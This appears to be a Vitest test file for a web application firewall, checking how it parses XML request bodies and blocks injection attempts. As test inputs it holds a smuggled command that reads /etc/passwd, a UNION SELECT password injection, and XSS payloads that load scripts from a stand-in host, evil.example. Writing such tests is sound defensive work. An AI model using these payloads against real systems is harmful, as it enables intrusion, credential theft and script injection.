import { describe, expect, it } from 'vitest';
import { inspectRequest } from '../../../lambdas/core/waf/index.ts';
import { collectInputs } from '../../../lambdas/core/waf/inputs.ts';
import { looksLikeXml, resolveXmlReferences, xmlValues } from '../../../lambdas/core/waf/xml-values.ts';
import { json, post, waf } from './helpers.ts';

const balanced = waf();
const xml = (body: string, type: string | undefined = 'application/xml') => post(type, body);

describe('XML body values', () => {
  it('hands over attribute values and text with references resolved, as an XML parser does', () => {
    // Prepare
    const doc = '<?xml version="1.0"?><order id="7" note=\'a &amp; b\'><item>&lt;b&gt; &#x41;&#66;</item></order>';

    // Act
    const values = xmlValues(doc, 100);

    // Assess
    expect(values).toEqual([
      { name: 'order@id', value: '7' },
      { name: 'order@note', value: 'a & b' },
      { name: 'item', value: '<b> AB' },
    ]);
  });

  it('reads CDATA literally and skips comments, processing instructions and the DOCTYPE subset', () => {
    // Prepare
    const doc = '<!DOCTYPE r [<!ENTITY x "y">]><?pi data?><r><!-- c="1" --><![CDATA[1 &lt; 2 <b>]]><s k="v"/></r>';

    // Act
    const values = xmlValues(doc, 100);

    // Assess
    expect(values).toEqual([
      { name: 'r', value: '1 &lt; 2 <b>' },
      { name: 's@k', value: 'v' },
    ]);
  });

  it('never throws on broken documents and stops at the value limit', () => {
    // Prepare
    const broken = ['<a b="unterminated', '<![CDATA[ open', '<!-- open', '<<<>>>', '&#99999999;', '<a x=y>t'];
    const many = `<r>${'<v a="1">t</v>'.repeat(50)}</r>`;

    // Act
    const results = broken.map((doc) => xmlValues(doc, 10));

    // Assess
    expect(results.every(Array.isArray)).toBe(true);
    expect(xmlValues(many, 10)).toHaveLength(10);
    expect(resolveXmlReferences('&#1114112;&#x110000;&bogus;')).toBe('&bogus;');
  });

  it('recognises an untyped XML body by its declaration or root element, not by any < in text', () => {
    expect(looksLikeXml('  <?xml version="1.0"?><a/>')).toBe(true);
    expect(looksLikeXml('<soap:Envelope xmlns:soap="x">')).toBe(true);
    expect(looksLikeXml('< 5 apples')).toBe(false);
    expect(looksLikeXml('price <b>low</b>')).toBe(false);
  });

  it('inspects each attribute and element of an XML body as its own value', () => {
    // Prepare
    const req = xml('<?xml version="1.0"?><root><a probe="x"></a><b>y</b></root>');

    // Act
    const locations = collectInputs(req).map((input) => input.location);

    // Assess
    expect(locations).toEqual(expect.arrayContaining(['body.xml:a@probe', 'body.xml:b', 'body']));
  });

  it('blocks a command hidden behind character references in an XML attribute at sensitivity 70', () => {
    // Prepare
    const req = xml('<?xml version="1.0"?><root><a probe="x&#59;cat&#32;/etc/passwd"></a></root>');

    // Act
    const decision = inspectRequest(balanced, req);

    // Assess
    expect(decision.action).toBe('block');
    expect(decision.matches?.[0]?.location).toBe('body.xml:a@probe');
  });

  it('blocks a UNION SELECT in the text of an untyped SOAP body at sensitivity 70', () => {
    // Prepare
    const req = xml(
      '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><id>1 UNION SELECT password FROM users--</id></soap:Body></soap:Envelope>',
      undefined,
    );

    // Act
    const decision = inspectRequest(balanced, req);

    // Assess
    expect(decision.action).toBe('block');
    expect(decision.threatType).toBe('sql_injection');
  });

  it('allows an ordinary XML order with attributes and nested elements', () => {
    // Prepare
    const req = xml(
      '<?xml version="1.0"?><order id="42" currency="EUR"><a href="https://shop.example.com/p/7">Widget</a><qty>3</qty></order>',
    );

    // Act
    const decision = inspectRequest(balanced, req);

    // Assess
    expect(decision.action).toBe('allow');
  });
});

describe('XSS-140 markup break-out', () => {
  it('blocks a value that closes an outer attribute and opens an image with a source at sensitivity 70', () => {
    const decision = inspectRequest(balanced, json({ name: '"><img src=//evil.example/x.png>' }));
    expect(decision.ruleIds).toContain('XSS-140');
  });

  it('blocks a comment close followed by new markup at sensitivity 70', () => {
    const decision = inspectRequest(balanced, json({ name: '--><iframe src=//evil.example>' }));
    expect(decision.ruleIds).toContain('XSS-140');
  });

  it("allows a document's own markup: a linked image and a comment before an image", () => {
    // Prepare
    const readme = [
      '<p align="center"><a href="https://example.com/"><img src="https://example.com/logo.png" alt="Logo" height="64"></a></p>',
      '<!-- stability banner --><img src="https://img.shields.io/badge/stable-green.svg">',
    ].join('\n');

    // Act
    const decision = inspectRequest(balanced, json({ body: readme }));

    // Assess
    expect(decision.ruleIds).not.toContain('XSS-140');
  });
});

describe('XSS-150 script sinks', () => {
  it('blocks a sink called as a tagged template at sensitivity 70', () => {
    const decision = inspectRequest(balanced, json({ name: 'x`;alert`1`' }));
    expect(decision.ruleIds).toContain('XSS-150');
  });

  it('blocks a dynamic import of a remote module at sensitivity 70', () => {
    const decision = inspectRequest(balanced, json({ name: "import('//evil.example/x.js')" }));
    expect(decision.ruleIds).toContain('XSS-150');
  });

  it('allows "import" before the closing backtick of inline code in prose', () => {
    const decision = inspectRequest(balanced, json({ body: 'Resources made outside need `cdk import` first.' }));
    expect(decision.ruleIds).not.toContain('XSS-150');
  });
});
